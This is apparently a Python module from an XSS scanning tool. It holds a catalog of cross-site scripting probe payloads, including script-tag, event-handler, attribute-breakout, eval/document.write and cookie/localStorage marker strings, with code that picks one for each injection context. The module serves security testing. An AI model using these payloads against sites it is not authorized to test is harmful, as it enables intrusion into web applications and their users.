"""
Base payload catalog, keyed by vulnerability class.

Every template carries a ``{token}`` placeholder that is replaced with the
per-injection-point uniqueness token, so any reflection found later can be
attributed to the probe that caused it.
"""

from typing import Dict, List, Optional

from xssprobe.core.exceptions import GenerationError
from xssprobe.core.models import Context, ContextType, Payload, VulnClass

BASE_PAYLOADS: Dict[VulnClass, List[Payload]] = {
    VulnClass.REFLECTED: [
        Payload("r-script", VulnClass.REFLECTED, "<script>alert({token})</script>", "script tag"),
        Payload("r-img", VulnClass.REFLECTED, "<img src=x onerror=alert({token})>", "img onerror"),
        Payload("r-svg", VulnClass.REFLECTED, "<svg onload=alert({token})>", "svg onload"),
        Payload("r-hover", VulnClass.REFLECTED, "<div onmouseover=alert({token})>hover me</div>", "div onmouseover"),
        Payload("r-eval", VulnClass.REFLECTED, "<svg onload=eval(\"alert({token})\")>", "svg eval"),
        Payload("r-breakout", VulnClass.REFLECTED, "'\"><XSS{token}>", "quote breakout"),
        Payload("r-attr", VulnClass.REFLECTED, "\" onmouseover=\"alert({token})", "attribute breakout"),
        Payload("r-focus", VulnClass.REFLECTED, "<input autofocus onfocus=alert({token})>", "autofocus"),
        Payload("r-style", VulnClass.REFLECTED, "<div style=\"width:expression(alert({token}))\">", "css expression"),
    ],
    VulnClass.DOM: [
        Payload("d-innerhtml", VulnClass.DOM, "<script>document.body.innerHTML=\"<img src=x onerror=alert({token})>\";</script>", "innerHTML sink"),
        Payload("d-write", VulnClass.DOM, "<script>document.write(\"<img src=x onerror=alert({token})>\");</script>", "document.write sink"),
        Payload("d-eval", VulnClass.DOM, "<script>eval(\"alert({token})\");</script>", "eval sink"),
        Payload("d-breakout", VulnClass.DOM, "\"><img src=x onerror=alert({token})>", "attribute breakout"),
        Payload("d-style", VulnClass.DOM, "\" style=\"background:url(javascript:alert({token}))", "style url"),
    ],
    VulnClass.STORED: [
        Payload("s-local", VulnClass.STORED, "<script>localStorage.setItem(\"xss\", \"{token}\");</script>", "localStorage marker"),
        Payload("s-session", VulnClass.STORED, "<script>sessionStorage.setItem(\"xss\", \"{token}\");</script>", "sessionStorage marker"),
        Payload("s-cookie", VulnClass.STORED, "<script>document.cookie = \"xss={token}\";</script>", "cookie marker"),
    ],
}

# Substrings that make a template a good fit for a context type
CONTEXT_PREFERENCES: Dict[ContextType, List[str]] = {
    ContextType.HTML: ["<script>", "onerror="],
    ContextType.JAVASCRIPT: ["eval(", "document.write"],
    ContextType.CSS: ["style=", "expression("],
}


class PayloadCatalog:
    """Lookup and context-aware selection of base payloads."""

    def __init__(self, payloads: Optional[Dict[VulnClass, List[Payload]]] = None):
        self.payloads = payloads or BASE_PAYLOADS

    def for_class(self, vuln_class) -> List[Payload]:
        try:
            key = VulnClass(vuln_class)
        except ValueError:
            raise GenerationError(f"Invalid payload type: {vuln_class}", method=str(vuln_class))
        entries = self.payloads.get(key)
        if not entries:
            raise GenerationError(f"Invalid payload type: {vuln_class}", method=key.value)
        return entries

    def select(self, vuln_class, context: Context) -> Payload:
        """First payload of the class that suits the dominant context type, else the class's first entry."""
        entries = self.for_class(vuln_class)
        dominant = context.dominant if context else None
        if dominant is not None:
            markers = CONTEXT_PREFERENCES[dominant]
            for payload in entries:
                if any(m in payload.raw_template for m in markers):
                    return payload
        return entries[0]

    def get(self, payload_id: str) -> Payload:
        for entries in self.payloads.values():
            for payload in entries:
                if payload.id == payload_id:
                    return payload
        raise GenerationError(f"Unknown payload id: {payload_id}")
